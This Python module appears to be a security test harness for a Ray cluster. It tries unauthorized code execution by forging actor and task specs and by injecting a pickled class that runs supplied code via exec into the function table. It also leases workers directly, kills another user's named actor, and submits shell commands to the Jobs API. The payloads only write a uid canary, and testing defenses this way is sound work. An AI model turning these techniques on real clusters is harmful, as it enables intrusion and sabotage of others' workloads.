"""Attacks that want to run code where the attacker may not: as a driver, by hand-made actors and leases, through agents' HTTP."""

import contextlib
import hashlib
import json
import os
import pickle
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

import grpc
from ray.core.generated import common_pb2, core_worker_pb2, gcs_service_pb2, node_manager_pb2

from tests.attack.programs import wire

PATIENCE_S = 12.0
UID = "import os; said = f'uid {os.getuid()}'"
DRIVER_S = 20.0


# ── as a driver ──────────────────────────────────────────────────────────────────────────────────────────────────────


def driver(canary: str) -> tuple[bool, str]:
    """`ray.init` beside the own raylet, then an actor on the head that writes a file there."""
    at = wire.session()
    environment = {**os.environ, "RAY_AUTH_MODE": "token", "RAY_AUTH_TOKEN": at.token}
    try:
        done = subprocess.run(
            [sys.executable, "-m", "tests.attack.programs.driver", at.gcs, at.address, canary], env=environment, text=True,
            capture_output=True, timeout=DRIVER_S, check=False,
        )  # fmt: skip
    except subprocess.TimeoutExpired:
        return False, f"ray.init did not come back within {DRIVER_S:.0f} s"
    lines = (done.stdout if done.returncode == 0 else done.stderr).strip().splitlines()
    return done.returncode == 0, lines[-1][:300] if lines else f"ended with {done.returncode}"


# ── by hand-made calls ───────────────────────────────────────────────────────────────────────────────────────────────


def actor(on: str, canary: str, name: str, code: str = UID) -> tuple[bool, str, dict[str, Any]]:
    """Put a class into the function table, register and create an actor of it, pinned to the head or to the node at an address.

    Its constructor writes what `code` leaves in `said` into the file `canary` over there.
    """
    at = wire.session()
    target = wire.head_node(at) if on == "head" else next(n for n in wire.nodes(at) if n.node_manager_address == on)
    refused: list[str] = []
    job_id = _some_job(at, refused)

    def call(method: str, request: Any) -> None:
        try:
            wire.gcs(at, method, request, timeout_s=PATIENCE_S)
        except grpc.RpcError as error:  # each step is tried, whatever became of the one before
            refused.append(f"{method.rpartition('/')[2]} {wire.refusal(error)}")

    actor_id = create(call, job_id, target, name, canary, code)
    return not refused, "; ".join(refused) or "registered and created", {"actor_id": actor_id.hex()}


def create(call: Callable[[str, Any], Any], job_id: bytes, target: Any, name: str, canary: str, code: str = UID) -> bytes:
    """The calls that make a detached actor on one node; returns its id."""
    spec = creation_spec(job_id, target, name, canary)
    call(f"{wire.KV}/InternalKVPut", _class_entry(spec, job_id, canary, code))
    call(f"{wire.ACTORS}/RegisterActor", gcs_service_pb2.RegisterActorRequest(task_spec=spec))
    call(f"{wire.ACTORS}/CreateActor", gcs_service_pb2.CreateActorRequest(task_spec=spec))
    return bytes(spec.actor_creation_task_spec.actor_id)


def kill_named_actor(name: str, namespace: str) -> tuple[bool, str]:
    """Look up an actor of somebody else by its name and have the GCS kill it."""
    at = wire.session()
    refused = []
    actor_id = b""
    try:
        request = gcs_service_pb2.GetNamedActorInfoRequest(name=name, ray_namespace=namespace)
        reply = gcs_service_pb2.GetNamedActorInfoReply.FromString(wire.gcs(at, f"{wire.ACTORS}/GetNamedActorInfo", request))
        actor_id = reply.actor_table_data.actor_id
    except grpc.RpcError as error:
        refused.append(f"GetNamedActorInfo {wire.refusal(error)}")
    try:
        kill = gcs_service_pb2.KillActorViaGcsRequest(actor_id=actor_id or wire.random_id(16), force_kill=True, no_restart=True)
        wire.gcs(at, f"{wire.ACTORS}/KillActorViaGcs", kill)
    except grpc.RpcError as error:
        refused.append(f"KillActorViaGcs {wire.refusal(error)}")
    return not refused, "; ".join(refused) or f"{name} was killed"


def lease(canary: str) -> tuple[bool, str]:
    """Lease a worker from the head's raylet itself (or through the gate) and push a task to it."""
    at = wire.session()
    head = wire.head_node(at)
    gate_host = at.gcs.rpartition(":")[0]
    job_id = _some_job(at, [])
    spec = task_spec(job_id, head, canary)
    with contextlib.suppress(grpc.RpcError):
        wire.gcs(at, f"{wire.KV}/InternalKVPut", _function_entry(spec, job_id, canary))
    wanted = common_pb2.LeaseSpec(
        lease_id=wire.random_id(32), job_id=job_id, caller_address=spec.caller_address, type=common_pb2.NORMAL_TASK, depth=1,
        parent_task_id=spec.parent_task_id, language=common_pb2.PYTHON, function_descriptor=spec.function_descriptor, task_name="t",
        scheduling_strategy=spec.scheduling_strategy, runtime_env_info=spec.runtime_env_info,
        root_detached_actor_id=os.urandom(12) + job_id,  # so that workers are started although the job that it names has ended
    )  # fmt: skip
    request = node_manager_pb2.RequestWorkerLeaseRequest(lease_spec=wanted, grant_or_reject=True)
    method = "NodeManagerService/RequestWorkerLease"

    def ask(address: str) -> str:
        reply = node_manager_pb2.RequestWorkerLeaseReply.FromString(
            wire.call(address, method, request, token=at.token, timeout_s=PATIENCE_S)
        )
        worker = reply.worker_address
        if not worker.port:
            raise OSError(f"no worker was leased: {reply.scheduling_failure_message or reply}"[:200])
        push = core_worker_pb2.PushTaskRequest(intended_worker_id=worker.worker_id, task_spec=spec, sequence_number=-1)
        wire.call(f"{gate_host}:{worker.port}", "CoreWorkerService/PushTask", push, token=at.token, timeout_s=PATIENCE_S)
        return f"worker {reply.worker_pid} of the head was leased and given a task"

    addresses = [f"{head.node_manager_address}:{head.node_manager_port}", f"{gate_host}:{head.node_manager_port}", at.gcs]
    return wire.first_that_works([(address, lambda a=address: ask(a)) for address in dict.fromkeys(addresses)])


def creation_spec(job_id: bytes, target: Any, name: str, canary: str) -> Any:
    """The task that creates a detached actor on one node, as Ray's own driver would write it."""
    actor_id = os.urandom(12) + job_id
    spec = task_spec(job_id, target, canary)
    spec.type = common_pb2.ACTOR_CREATION_TASK
    spec.task_id = b"\xff" * 8 + actor_id
    spec.root_detached_actor_id = actor_id  # so that workers are started for it although the job that it names has ended
    spec.function_descriptor.python_function_descriptor.class_name = "Spy"
    spec.function_descriptor.python_function_descriptor.function_name = "__init__"
    spec.actor_creation_task_spec.CopyFrom(
        common_pb2.ActorCreationTaskSpec(
            actor_id=actor_id,
            is_detached=True,
            name=name,
            ray_namespace="attack",
            max_concurrency=1,
            max_pending_calls=-1,
            actor_generator_backpressure_num_objects=-1,
        )
    )
    return spec


def task_spec(job_id: bytes, target: Any, canary: str) -> Any:
    """A normal task, pinned to one node."""
    driver_task = b"\xff" * 8 + b"\xff" * 12 + job_id
    described = common_pb2.PythonFunctionDescriptor(
        module_name="__main__", function_name="spy", function_hash=hashlib.sha1(canary.encode()).hexdigest()
    )
    spec = common_pb2.TaskSpec(
        type=common_pb2.NORMAL_TASK, name="spy", language=common_pb2.PYTHON, job_id=job_id, task_id=os.urandom(8) + b"\xff" * 12 + job_id,
        parent_task_id=driver_task, submitter_task_id=driver_task, caller_id=driver_task, num_returns=1, depth=1,
        num_streaming_generator_returns=0, generator_backpressure_num_objects=-1, num_objects_per_yield=1,
        function_descriptor=common_pb2.FunctionDescriptor(python_function_descriptor=described),
        caller_address=common_pb2.Address(
            node_id=target.node_id, ip_address=target.node_manager_address, port=1, worker_id=wire.random_id()
        ),
    )  # fmt: skip
    spec.scheduling_strategy.node_affinity_scheduling_strategy.node_id = target.node_id
    spec.runtime_env_info.serialized_runtime_env = "{}"
    return spec


def _descriptor_key(kind: bytes, spec: Any, job_id: bytes) -> bytes:
    described = spec.function_descriptor.python_function_descriptor
    digest = hashlib.shake_128()
    for part in (described.module_name, described.function_name, described.class_name, described.function_hash):
        digest.update(part.encode())
    return b":".join([kind, job_id.hex().encode(), digest.digest(28)])


def _class_entry(spec: Any, job_id: bytes, canary: str, code: str) -> Any:
    from ray import cloudpickle

    def constructor(_self: object) -> None:
        found: dict[str, str] = {}
        exec(code, found)
        Path(canary).write_text(found["said"])

    pickled = cloudpickle.dumps(type("Spy", (), {"__init__": constructor, "__module__": "__main__"}))
    value = pickle.dumps(
        {"class_name": "Spy", "module": "__main__", "class": pickled, "job_id": job_id, "collision_identifier": b"",
         "actor_method_names": json.dumps(["__init__"])}
    )  # fmt: skip
    key = _descriptor_key(b"ActorClass", spec, job_id)
    return gcs_service_pb2.InternalKVPutRequest(key=key, value=value, namespace=b"fun", overwrite=True)


def _function_entry(spec: Any, job_id: bytes, canary: str) -> Any:
    from ray import cloudpickle

    def spy() -> None:
        Path(canary).write_text(f"uid {os.getuid()}")

    spy.__module__ = "__main__"
    key = _descriptor_key(b"RemoteFunction", spec, job_id)
    value = pickle.dumps(
        {"job_id": job_id, "function_id": key[-28:], "function_name": "spy", "module": "__main__", "function": cloudpickle.dumps(spy), "collision_identifier": b"",
         "max_calls": 0}
    )  # fmt: skip
    return gcs_service_pb2.InternalKVPutRequest(key=key, value=value, namespace=b"fun", overwrite=True)


def _some_job(at: wire.Session, refused: list[str]) -> bytes:
    """A job that runs; a made-up one when nobody names any."""
    try:
        reply = wire.gcs(at, "JobInfoGcsService/GetAllJobInfo", gcs_service_pb2.GetAllJobInfoRequest())
    except grpc.RpcError as error:
        refused.append(f"GetAllJobInfo {wire.refusal(error)}")
    else:
        for job in gcs_service_pb2.GetAllJobInfoReply.FromString(reply).job_info_list:
            if not job.is_dead:
                return bytes(job.job_id)
    return b"\x01\x00\x00\x00"


# ── through HTTP ─────────────────────────────────────────────────────────────────────────────────────────────────────


def submit_job(canary: str) -> tuple[bool, str]:
    """Submit a shell command to the dashboard's Jobs API, or to the same API of the head's agent."""
    at = wire.session()
    head = wire.head_node(at)
    host = at.gcs.rpartition(":")[0]
    order = json.dumps(
        {"entrypoint": f"id -u > {canary}", "entrypoint_num_cpus": 1, "submission_id": f"raysubmit_{os.urandom(6).hex()}"}
    ).encode()
    places = [f"http://{host}:8265/api/jobs/"]
    if head.dashboard_agent_listen_port > 0:
        agent = f"{head.dashboard_agent_listen_port}/api/job_agent/jobs/"
        places += [f"http://{host}:{agent}", f"http://{head.node_manager_address}:{agent}"]

    def post(url: str) -> str:
        request = urllib.request.Request(
            url,
            order,
            {
                "Content-Type": "application/json",
                "Authorization": f"Bearer {at.token}",
                "x-ray-authorization": f"Bearer {at.token}",
            },
        )
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        try:
            with opener.open(request, timeout=30) as answer:
                return str(answer.read(300).decode(errors="replace"))
        except urllib.error.HTTPError as error:
            raise OSError(f"HTTP {error.code} {error.read(120)!r}") from None

    done, said = wire.first_that_works([(url, lambda u=url: post(u)) for url in dict.fromkeys(places)])
    return done, said
